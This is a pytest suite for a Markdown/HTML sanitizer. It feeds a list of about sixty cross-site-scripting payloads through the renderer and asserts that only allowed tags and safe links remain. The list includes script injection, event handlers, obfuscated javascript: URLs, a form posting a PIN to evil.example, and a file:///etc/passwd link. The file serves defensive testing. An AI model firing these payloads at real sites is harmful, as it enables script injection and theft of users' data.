"""Whatever an author writes, only harmless HTML comes out. The corpus stays when the library is exchanged."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.richtext import ATTRIBUTES, TAGS, Renderer, clean, is_harmless, plain

RENDERER = Renderer({"book": ("https://example.org/book", "A book")}, {"fee": "₹5 & <b>more</b> *x*"}, lambda to: to)

# What people and attack lists have tried; the marks of success are looked for in whatever comes out.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed'>over everything</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=pin></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<b onmouseover=alert(1)>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript:123)",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    '[x](https://example.org "a\\" onclick=\\"alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    '![" onerror="alert(1)](/courses/a/media/x.svg)',
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<script>alert(1)</script>\n```",
    "``` {.x onclick=alert(1)}\ncode\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\x02wzxhzdk:0\x03 <b>x</b>",
    "{{ facts.fee }}",
    "{{ config }} {% raw %}",
]


class Page(HTMLParser):
    """What a browser sees: the tags and attributes of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("instruction", {}))


def assert_harmless(markup: str) -> None:
    page = Page()
    page.feed(markup)
    page.close()
    for tag, attributes in page.tags:
        assert tag in TAGS, markup
        for name, value in attributes.items():
            assert name == "lang" or name in ATTRIBUTES.get(tag, ()), markup
            if name in ("href", "src"):
                assert re.match(r"(https?://[^/]|mailto:|tel:|/[a-z]|#[a-z])", value or ""), markup


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_becomes_harmless(source: str) -> None:
    for markup in (RENDERER.block(source), RENDERER.inline(source), RENDERER.block(source, gaps=True)):
        assert_harmless(markup)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_becomes_harmless(source: str) -> None:
    assert_harmless(clean(source))


@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", " ", "*", "`", "[", "](", ")", ">", "\n- ", "\n    "]), max_size=8))
@settings(derandomize=True, deadline=None, max_examples=150)
def test_hostile_pieces_stay_harmless_together(pieces: list[str]) -> None:
    assert_harmless(RENDERER.block("".join(pieces)))


@pytest.mark.parametrize("source", HOSTILE)
def test_cleaning_twice_changes_nothing(source: str) -> None:
    once = RENDERER.block(source)
    assert clean(once) == once


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/a?b=c#d",
        "http://example.org",
        "mailto:someone@example.org",
        "tel:+911234",
        "/courses/tin_box/media/tin.svg",
        "/courses/tin_box/day-1#tins",
        "#tins",
    ],
)
def test_harmless_addresses_are_kept(address: str) -> None:
    assert is_harmless(address)
    assert f'href="{html.escape(address)}"' in RENDERER.block(f"[x]({address})")


@pytest.mark.parametrize(
    "address", ["https://example.org/x.png", "//example.org/x.png", "data:image/png;base64,x", "../x"]
)
def test_pictures_come_from_our_own_paths_only(address: str) -> None:
    assert not is_harmless(address, image=True)
    assert "src" not in RENDERER.block(f"![x]({address})")


def test_links_to_others_cannot_reach_back() -> None:
    assert RENDERER.block("[x](https://example.org)") == '<p><a href="https://example.org" rel="noopener">x</a></p>'
    assert RENDERER.block("[x](/courses)") == '<p><a href="/courses">x</a></p>'


def test_mail_addresses_are_readable() -> None:
    assert RENDERER.inline("<a@example.org>") == '<a href="mailto:a@example.org" rel="noopener">a@example.org</a>'


def test_references_are_known_in_every_text() -> None:
    assert 'href="https://example.org/book"' in RENDERER.inline("[the book][book]")


def test_facts_are_words_and_not_markup() -> None:
    assert RENDERER.inline("Pay {{ facts.fee }}.") == "Pay ₹5 &amp; &lt;b&gt;more&lt;/b&gt; *x*."


def test_facts_stay_as_they_are_in_code() -> None:
    assert RENDERER.inline("`{{ facts.fee }}`") == "<code>{{ facts.fee }}</code>"


def test_joiners_of_malayalam_are_kept() -> None:
    assert RENDERER.inline("ക്‍ഷ ന്‌") == "ക്‍ഷ ന്‌"


def test_a_language_may_be_marked() -> None:
    assert clean('<span lang="ml">കൂട്ടം</span>') == '<span lang="ml">കൂട്ടം</span>'
    assert clean('<p lang="ml" onclick="x">ക</p>') == '<p lang="ml">ക</p>'


def test_inline_words_are_neither_lists_nor_headings() -> None:
    assert RENDERER.inline("1. March is a day") == "1. March is a day"
    assert RENDERER.inline("# one") == "# one"
    assert RENDERER.inline("one\n\ntwo") == "one<br>two"


def test_tables_keep_their_columns() -> None:
    assert '<td align="right">2</td>' in RENDERER.block("| a | b |\n|---|--:|\n| 1 | 2 |")


def test_a_gap_is_an_empty_place() -> None:
    assert (
        RENDERER.block("It is `left = profit | surplus`.", gaps=True) == '<p>It is <span data-gap="left"></span>.</p>'
    )


def test_a_title_is_plain_text() -> None:
    assert RENDERER.title("The *cash* book & `code` {{ facts.fee }}") == "The cash book & code ₹5 & <b>more</b> *x*"
    assert plain("<p>a &lt; b</p>") == "a < b"
